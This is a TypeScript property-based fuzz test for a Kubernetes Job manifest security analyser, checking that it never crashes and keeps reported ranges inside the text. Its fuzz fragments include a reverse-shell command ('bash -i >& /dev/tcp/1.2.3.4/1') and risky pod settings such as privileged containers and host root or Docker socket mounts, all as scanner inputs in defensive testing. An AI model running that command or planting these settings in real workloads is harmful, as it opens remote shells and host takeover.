/**
 * Properties that must hold for any input: analysis never throws, and every range it reports lies
 * inside the text (start <= end, on an existing line, within that line).
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { dump } from 'js-yaml';
import { analyseManifest, parseConfig, parseText, type AnalysisResult, type Range } from '../src/index.js';

const RUNS = 300;

function assertRangeInside(text: string, range: Range, what: string): void {
  // Lines end at \n, \r\n or a lone \r, for YAML and for editors (LSP) alike.
  const lines = text.split(/\r\n?|\n/);
  const { start, end } = range;
  assert.ok(start.line >= 1 && end.line <= lines.length, `${what}: lines ${start.line}-${end.line} of ${lines.length}`);
  assert.ok(start.line < end.line || (start.line === end.line && start.column <= end.column), `${what}: start after end`);
  assert.ok(start.column >= 1 && start.column <= lines[start.line - 1].length + 1, `${what}: start column ${start.column}`);
  assert.ok(end.column >= 1 && end.column <= lines[end.line - 1].length + 1, `${what}: end column ${end.column}`);
}

function assertWellFormed(text: string, result: AnalysisResult): void {
  const documents = parseText(text, { kubernetesScalars: true }).documents;
  assert.ok(documents.length <= result.documents, 'documents that failed to parse still count');
  for (const finding of result.findings) {
    assertRangeInside(text, finding.range!, `finding ${finding.indicator} at ${finding.path}`);
    assert.ok(finding.span!.start <= finding.span!.end && finding.span!.end <= text.length);
    assert.ok(finding.document >= 0 && finding.document < result.documents);
    const { span } = documents.find((document) => document.index === finding.document)!;
    assert.ok(span.start <= finding.span!.start && finding.span!.end <= span.end, `finding ${finding.indicator} inside document ${finding.document}`);
  }
  for (const error of result.errors) assertRangeInside(text, error.range, `error "${error.message}"`);
}

function analyseChecked(text: string): void {
  assertWellFormed(text, analyseManifest(text, 'property.yaml'));
}

/** Real manifests to mutate: the public corpus and the bundled samples. */
function realManifests(): string[] {
  const corpus = new URL('./fixtures/corpus/', import.meta.url);
  const samples = new URL('../../../samples/', import.meta.url);
  const read = (folder: URL) =>
    readdirSync(folder)
      .filter((name) => /\.(ya?ml|json)$/.test(name))
      .map((name) => readFileSync(new URL(name, folder), 'utf8'));
  return [...read(corpus), ...read(samples)];
}

/** Characters and fragments that steer random text into YAML's interesting corners. */
const YAML_PIECES = [
  '\n', '  ', '\t', '- ', ': ', '---\n', '...\n', '#', '&a ', '*a', '<<: ', '{', '}', '[', ']', ',', '"', "'", '|', '>-', '? ',
  '!!str ', '%YAML 1.2\n', '\r\n', '\uFEFF', '{{ .Values.x }}', 'kind: Job\n', 'kind: CronJob\n', 'apiVersion: batch/v1\n',
  'spec:\n', '  template:\n', '    spec:\n', 'containers:\n', 'image: busybox', 'privileged: true', 'hostNetwork: yes',
  'hostPath: {path: /}', 'command: [sh, -c, "bash -i >& /dev/tcp/1.2.3.4/1"]', '# jobsentinel-ignore: all', 'jobsentinel.io/ignore: x',
  '🚀', '\u0000', 'é',
];

type Mutation = { kind: 'delete' | 'insert' | 'duplicate-line'; at: number; length: number; piece: string };

function mutate(text: string, mutations: Mutation[]): string {
  let result = text;
  for (const { kind, at, length, piece } of mutations) {
    const position = result.length === 0 ? 0 : at % result.length;
    if (kind === 'delete') result = result.slice(0, position) + result.slice(position + length);
    else if (kind === 'insert') result = result.slice(0, position) + piece + result.slice(position);
    else {
      const lineStart = result.lastIndexOf('\n', position - 1) + 1;
      const lineEnd = result.indexOf('\n', position);
      const line = result.slice(lineStart, lineEnd === -1 ? result.length : lineEnd + 1);
      result = result.slice(0, lineStart) + line + result.slice(lineStart);
    }
  }
  return result;
}

const mutationArbitrary = fc.record({
  kind: fc.constantFrom('delete' as const, 'insert' as const, 'duplicate-line' as const),
  at: fc.nat(),
  length: fc.integer({ min: 1, max: 20 }),
  piece: fc.constantFrom(...YAML_PIECES),
});

describe('analyseManifest never throws and keeps every range inside the text', () => {
  it('on arbitrary strings (any Unicode)', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 400 }), analyseChecked), { numRuns: RUNS });
  });

  it('on strings assembled from YAML syntax and manifest fragments', () => {
    const soup = fc.array(fc.oneof(fc.constantFrom(...YAML_PIECES), fc.string({ maxLength: 8 })), { maxLength: 60 }).map((parts) => parts.join(''));
    fc.assert(fc.property(soup, analyseChecked), { numRuns: RUNS * 2 });
  });

  it('on real manifests with random deletions, insertions and duplicated lines', () => {
    const manifests = realManifests();
    assert.ok(manifests.length >= 8, 'the corpus and the samples are there');
    fc.assert(
      fc.property(fc.constantFrom(...manifests), fc.array(mutationArbitrary, { minLength: 1, maxLength: 6 }), (manifest, mutations) => {
        analyseChecked(mutate(manifest, mutations));
      }),
      { numRuns: RUNS * 2 },
    );
  });

  it('on real manifests with CRLF line endings, a BOM, or indentation shifted', () => {
    const manifests = realManifests();
    fc.assert(
      fc.property(fc.constantFrom(...manifests), fc.boolean(), fc.boolean(), fc.integer({ min: 0, max: 3 }), (manifest, crlf, bom, shift) => {
        let text = manifest.replace(/^/gm, ' '.repeat(shift));
        if (crlf) text = text.replace(/\r?\n/g, '\r\n');
        if (bom) text = '\uFEFF' + text;
        analyseChecked(text);
      }),
      { numRuns: RUNS },
    );
  });

  it('parseConfig never throws either, and its errors lie inside the text', () => {
    const configPieces = ['profile: ', 'seed', 'severity:\n', '  host-pid: off\n', 'ignore:\n', '  - indicators: [', ']\n', 'custom:\n', '  patterns:\n', '    - id: x\n', 'images: ["*"]\n', '{', '}', '\n', '  '];
    const text = fc.array(fc.oneof(fc.constantFrom(...configPieces), fc.string({ maxLength: 6 })), { maxLength: 30 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, (config) => {
        for (const error of parseConfig(config, '.jobsentinel.yaml').errors) assertRangeInside(config, error.range, error.message);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('YAML and JSON agree', () => {
  /** A Job built from random settings, the way generators and kubectl write them. */
  const jobArbitrary = fc.record({
    name: fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/),
    hostNetwork: fc.boolean(),
    hostPID: fc.boolean(),
    containers: fc.array(
      fc.record({
        name: fc.stringMatching(/^[a-z]{1,8}$/),
        image: fc.constantFrom('busybox', 'alpine:3.20', 'registry.example/app:1', 'kalilinux/kali-rolling', 'ghcr.io/acme/superlative-reporter:2'),
        privileged: fc.boolean(),
        escalation: fc.boolean(),
      }),
      { minLength: 1, maxLength: 3 },
    ),
    hostPaths: fc.array(fc.constantFrom('/var/log', '/', '/proc', '/system', '/var/run/docker.sock', '/srv/data'), { maxLength: 3 }),
  });

  it('the same object as YAML and as JSON gives the same findings at the same paths', () => {
    fc.assert(
      fc.property(jobArbitrary, (spec) => {
        const object = {
          apiVersion: 'batch/v1',
          kind: 'Job',
          metadata: { name: spec.name },
          spec: {
            template: {
              spec: {
                hostNetwork: spec.hostNetwork,
                hostPID: spec.hostPID,
                containers: spec.containers.map((container) => ({
                  name: container.name,
                  image: container.image,
                  securityContext: { privileged: container.privileged, allowPrivilegeEscalation: container.escalation },
                })),
                volumes: spec.hostPaths.map((path, index) => ({ name: `v${index}`, hostPath: { path } })),
              },
            },
          },
        };
        const summary = (text: string) => {
          const result = analyseManifest(text, 'x');
          assert.deepEqual(result.errors, []);
          assertWellFormed(text, result);
          return result.findings.map((finding) => [finding.indicator, finding.path, finding.severity, finding.evidence]);
        };
        const yaml = summary(dump(object));
        assert.deepEqual(summary(JSON.stringify(object, null, 2)), yaml);
        assert.deepEqual(summary(JSON.stringify(object)), yaml);
        assert.equal(yaml.filter(([indicator]) => indicator === 'privileged-container').length, spec.containers.filter((container) => container.privileged).length);
      }),
      { numRuns: RUNS },
    );
  });
});
